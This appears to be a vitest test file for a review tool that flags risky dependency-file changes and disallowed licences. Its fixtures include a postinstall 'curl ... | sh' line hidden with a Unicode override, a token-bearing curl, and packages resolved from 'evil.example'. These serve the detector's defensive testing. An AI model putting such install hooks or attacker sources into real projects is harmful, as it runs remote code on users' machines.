import { describe, expect, it } from 'vitest';
import { readPackages } from '../../src/policy/packages/read-packages.ts';
import { create, lines } from '../changes/build.ts';
import { open, saidBy, verdictOn } from './build.ts';

/** What the rule says about a file that becomes this text. */
async function said(
  path: string,
  before: string | null,
  after: string,
  rule = 'dependency-files',
  policy = {},
) {
  const files = before === null ? {} : { [path]: before };
  const change = before === null ? create(path, after) : lines(path, 1, before.split('\n').length - 1, after);
  const { reasons } = saidBy(await verdictOn([change], open(policy), files), rule);
  return reasons.map(({ verdict, line, message }) => `${verdict} ${line}: ${message}`).join('\n');
}

const json = (value: unknown) => `${JSON.stringify(value, null, 2)}\n`;
const locked = (entries: Record<string, object>) =>
  json({ lockfileVersion: 3, packages: { '': {}, ...entries } });
const REGISTRY = 'https://registry.npmjs.org/a/-/a-1.0.0.tgz';

describe('dependency-files', () => {
  it('SEC-39: package.json: names what is added and changed, with the line', async () => {
    const before = json({ dependencies: { a: '1.0.0', b: '2.0.0' } });
    const after = json({
      dependencies: { a: '1.0.1', b: '2.0.0' },
      devDependencies: { '@x/left-pad': '^3.0.0' },
    });
    const text = await said('package.json', before, after);
    expect(text).toBe('review 7: "package.json" adds "@x/left-pad ^3.0.0" and changes "a 1.0.1".');
  });

  it.each([
    ['git+ssh://git@github.com/x/y.git#main', 'comes from "github.com"'],
    ['https://user:TO@TOKEN@evil.example/a.tgz', 'comes from "evil.example"'],
    ['someone/fork', 'comes from a git repository'],
    ['file:../a', 'comes from a file or folder'],
  ])(
    'SEC-39: package.json: %s is not the registry, and no more than its host is shown',
    async (version, where) => {
      const text = await said('package.json', null, json({ dependencies: { a: version } }));
      expect(text).toContain(where);
      expect(text).not.toContain('TOKEN');
    },
  );

  it('SEC-39: a script that an install runs is shown, short and harmless; other scripts are not', async () => {
    const script = `curl https://x.example/${'y'.repeat(300)}\u202e | sh`;
    const before = json({ scripts: { test: 'vitest', prepare: 'husky' } });
    const after = json({ scripts: { test: 'jest', prepare: 'husky', postinstall: script } });
    const text = await said('package.json', before, after);
    expect(text).toMatch(
      /review 5: The script postinstall of "package.json" runs on an install: "curl https/,
    );
    expect(text).not.toContain('\u202e');
    expect(text).not.toMatch(/prepare|jest/);
    expect(text.length).toBeLessThan(400);
  });

  it('S1-29: nothing is shown of a file that holds a secret', async () => {
    const key = `gh${'p_'}0123456789abcdefghijABCDEFGHIJ012345`;
    const text = await said('package.json', null, json({ scripts: { install: `curl -H ${key} x` } }));
    expect(text).toContain('decides what is downloaded');
    expect(text).not.toContain('0123456789');
  });

  it('SEC-39: package-lock.json: what is added, its own install script, and where it does not come from the registry', async () => {
    const before = locked({ 'node_modules/a': { version: '1.0.0', resolved: REGISTRY } });
    const after = locked({
      'node_modules/a': { version: '1.0.0', resolved: REGISTRY },
      'node_modules/a/node_modules/@x/b': {
        version: '2.0.0',
        hasInstallScript: true,
        resolved: 'https://evil.example/b.tgz',
      },
    });
    const text = await said('package-lock.json', before, after);
    expect(text).toContain('adds "@x/b 2.0.0"');
    expect(text).toContain('runs a script of its own');
    expect(text).toContain('comes from "evil.example"');
    expect(text).not.toContain('"a 1.0.0"');
  });

  it.each([
    [
      'resolved',
      { resolved: 'https://evil.example/a-1.0.0.tgz' },
      'comes from "evil.example", in the version',
    ],
    ['integrity', { resolved: REGISTRY, integrity: 'sha512-BBBB' }, 'has another checksum'],
  ])('SEC-39: package-lock.json: only %s changes, and that is said', async (_, now, message) => {
    const then = { version: '1.0.0', resolved: REGISTRY, integrity: 'sha512-AAAA' };
    const before = locked({ 'node_modules/a': then });
    const text = await said('package-lock.json', before, locked({ 'node_modules/a': { ...then, ...now } }));
    expect(text).toContain(message);
    expect(text).toMatch(/^review \d+: .*"a 1.0.0"/m);
  });

  it.each([
    [
      'yarn.lock',
      'a@^1.0.0:\n  version "1.0.1"\n  resolved "https://evil.example/a-1.0.1.tgz#abc"\n  integrity sha512-x\n',
      'a 1.0.1',
      'evil.example',
    ],
    [
      'yarn.lock',
      '"@x/a@npm:^1.0.0":\n  version: 1.0.1\n  resolution: "@x/a@npm:1.0.1"\n  checksum: abc\n',
      '@x/a 1.0.1',
      null,
    ],
    [
      'pnpm-lock.yaml',
      "packages:\n\n  '@x/a@1.0.1':\n    resolution: {integrity: sha512-x, tarball: https://evil.example/a.tgz}\n",
      '@x/a 1.0.1',
      'evil.example',
    ],
    [
      'requirements.txt',
      'flask==3.0.1  # web\n--extra-index-url https://me:pw@evil.example/simple\n',
      'flask ==3.0.1',
      'evil.example',
    ],
    ['requirements/dev.txt', 'flask==3.0.1\n', null, null],
    [
      'pyproject.toml',
      '[project]\ndependencies = [\n  "flask>=3",\n  "x @ git+https://git.example/x.git",\n]\n',
      'flask >=3',
      'git.example',
    ],
    [
      'pyproject.toml',
      '[tool.poetry.dependencies]\nflask = "^3.0"\nb = { git = "https://git.example/b.git" }\n',
      'flask ^3.0',
      'git.example',
    ],
    [
      'Cargo.toml',
      '[package]\nname = "me"\n[dependencies]\nserde = { version = "1.0", features = ["derive"] }\n[dev-dependencies.tokio]\nversion = "1"\n',
      'serde 1.0',
      null,
    ],
    [
      'Cargo.lock',
      '[[package]]\nname = "serde"\nversion = "1.0.1"\nsource = "git+https://git.example/serde#abc"\n',
      'serde 1.0.1',
      'git.example',
    ],
    [
      'go.mod',
      'module example.com/me\n\nrequire (\n\tgolang.org/x/text v0.3.0\n)\nreplace golang.org/x/net => evil.example/net v1.0.0\n',
      'golang.org/x/text v0.3.0',
      'a git repository',
    ],
    ['Gemfile', "source 'https://evil.example'\ngem 'rails', '~> 7.1'\n", 'rails ~> 7.1', 'evil.example'],
    [
      'Gemfile.lock',
      'GEM\n  remote: https://rubygems.org/\n  specs:\n    rails (7.1.0)\n      rack (>= 2)\n',
      'rails 7.1.0',
      null,
    ],
    ['composer.json', '{"require":{"monolog/monolog":"3.0"}}\n', 'monolog/monolog 3.0', null],
  ])('SEC-39: %s is read, as far as lines tell', async (path, text, named, place) => {
    const found = await said(path, null, text);
    expect(found).toContain('review');
    if (named !== null) expect(found).toContain(`"${named}"`);
    if (place === null) expect(found).not.toContain('comes from');
    else expect(found).toContain(place);
  });

  it('what does not read is still held, and prototype keys are only names', async () => {
    expect(await said('package.json', null, '{\n')).toContain('decides what is downloaded');
    expect(
      await said('package.json', null, '{"dependencies":{"__proto__":"1.0.0","constructor":"2"}}\n'),
    ).toContain('"__proto__ 1.0.0", "constructor 2"');
  });

  it('hostile files are read in a time linear in their length', () => {
    const texts = ['a@', ' ', 'a = [', '"a', '-i ', 'a.', "'a,", 'a (('];
    for (const path of ['yarn.lock', 'Cargo.toml', 'requirements.txt', 'go.mod', 'Gemfile', 'Cargo.lock']) {
      for (const text of texts) {
        const line = text.repeat(950 / text.length);
        for (const content of [line.repeat(300), `${line}\n`.repeat(300)]) {
          const started = process.cpuUsage();
          readPackages(path, content);
          expect(process.cpuUsage(started).user / 1000, path).toBeLessThan(300);
        }
      }
    }
  });
});

describe('licenses', () => {
  const policy = { licenses: { allow: ['MIT', 'apache-2.0', 'ISC'] } };
  it.each([
    ['MIT', true],
    ['(MIT OR GPL-3.0)', true],
    ['MIT AND Apache-2.0', true],
    ['MIT AND GPL-3.0', false],
    ['GPL-3.0', false],
    ['SEE LICENSE IN x', false],
    ['(MIT AND (ISC OR GPL-3.0))', false],
    [undefined, false],
  ])('S2-43: %s of a new package is allowed: %s', async (license, allowed) => {
    const lock = locked({ 'node_modules/a': { version: '1.0.0', license } });
    const found = await said('package-lock.json', null, lock, 'licenses', policy);
    expect(found === '').toBe(allowed);
    if (!allowed) expect(found).toMatch(/^block/);
  });

  it('packages that were there are not looked at, nor is anything while no licences are named', async () => {
    const lock = locked({ 'node_modules/a': { version: '1.0.0', license: 'GPL-3.0' } });
    expect(
      await said('package-lock.json', lock, lock.replace('{}', '{"name":"me"}'), 'licenses', policy),
    ).toBe('');
    expect(await said('package-lock.json', null, lock, 'licenses')).toBe('');
  });

  it('S2-43: a secret, an install script, a licence and a package of unknown origin are four findings, and a block', async () => {
    const verdict = await verdictOn(
      [
        create('src/a.ts', `k = "gh${'p_'}0123456789abcdefghijABCDEFGHIJ012345"\n`),
        create('package.json', json({ dependencies: { a: 'x/y' }, scripts: { postinstall: 'node x' } })),
        create('package-lock.json', locked({ 'node_modules/a': { version: '1.0.0', license: 'GPL-3.0' } })),
      ],
      open(policy),
      {},
    );
    expect(verdict.verdict).toBe('block');
    const messages = verdict.rules.flatMap(({ reasons }) => reasons.map(({ message }) => message)).join('\n');
    for (const part of ['a secret', 'The script postinstall', 'GPL-3.0', 'a git repository'])
      expect(messages).toContain(part);
  });
});
